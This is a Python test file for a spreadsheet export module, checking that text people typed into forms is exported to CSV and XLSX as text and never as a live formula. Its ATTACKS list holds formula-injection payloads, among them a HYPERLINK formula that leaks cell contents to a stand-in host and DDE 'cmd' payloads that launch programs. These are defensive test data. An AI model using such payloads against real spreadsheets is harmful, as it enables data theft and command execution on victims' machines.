"""What people typed into forms comes out of an export as text, never as a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from python_calamine import CalamineWorkbook

from shared.documents.sheets import Cell, Sheet, as_csv, as_xlsx, harmless

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"нажмите")',
    "=cmd|'/C calc'!A0",
    "+7 912 345-67-89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
]
ORDINARY = [
    "Щербаков Пётр",
    "7А",
    "а=б",
    "имя@почта.рф",
    "2-3 раза в неделю",
    "% посещений",
    "'кавычка",
    "",
]


def sheet(*rows: tuple[Cell, ...]) -> Sheet:
    return Sheet("Участники [2026/27]", ("ФИО", "Дата", "Балл"), rows)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text_in_csv(text: str) -> None:
    rows = list(
        csv.reader(io.StringIO(as_csv(sheet((text, None, 1))).decode("utf-8-sig")), delimiter=";")
    )
    assert rows[1][0].startswith("'")
    assert rows[1][0][1:].strip() == text.strip()


@pytest.mark.parametrize("text", ATTACKS)
def test_a_workbook_holds_no_formula_and_no_link(text: str) -> None:
    content = as_xlsx(sheet((text, date(2026, 9, 1), -3)))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        page = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
        assert not any("external" in name.lower() or "vba" in name for name in archive.namelist())
    assert "<f>" not in page
    assert "hyperlink" not in page
    style = re.search(r'r="A2" s="(\d+)"', page)
    formats = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])
    assert style is not None
    assert 'quotePrefix="1"' in formats[int(style[1])], "editing must not make a formula"


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_workbook_reads_back_with_its_types() -> None:
    content = as_xlsx(sheet(("Щербаков Пётр", date(2026, 9, 1), 4.5), ("=1", None, -7)))
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert book.sheet_names == ["Участники  2026 27"]
    assert book.get_sheet_by_index(0).to_python() == [
        ["ФИО", "Дата", "Балл"],
        ["Щербаков Пётр", date(2026, 9, 1), 4.5],
        ["=1", "", -7.0],
    ]


def test_numbers_and_dates_stay_what_they_are_in_csv() -> None:
    text = as_csv(sheet(("Анна; «Ёж»", date(2026, 9, 1), -7))).decode("utf-8-sig")
    assert text.splitlines()[1] == '"Анна; «Ёж»";01.09.2026;-7'


def test_what_xml_cannot_hold_is_left_out() -> None:
    content = as_xlsx(Sheet("", ("a",), [("до\x00\x0bпосле",), ("я" * 40_000,)]))
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert rows[1] == ["до\nпосле"]
    assert len(rows[2][0]) == 32_767
